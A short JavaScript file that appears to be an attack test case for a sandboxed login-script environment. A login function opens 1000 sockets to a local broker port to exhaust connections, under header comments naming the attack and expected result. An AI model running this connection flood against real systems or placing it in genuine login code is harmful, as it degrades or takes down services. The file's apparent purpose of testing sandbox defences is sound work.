// attack: open connections until something gives way
// needs: full
// violations: any
// retires: any
// value: {"user_id":"attempted","connected":0}
function login(email, password, callback) {
  const net = require('net');
  let left = 1000;
  let connected = 0;
  const end = () => --left || callback(null, { user_id: 'attempted', connected });
  for (let round = 0; round < 1000; round++) {
    const socket = net.connect(Number(configuration.broker), '127.0.0.1');
    socket.on('connect', () => (connected += 1));
    socket.on('error', () => {});
    socket.on('close', end);
  }
}
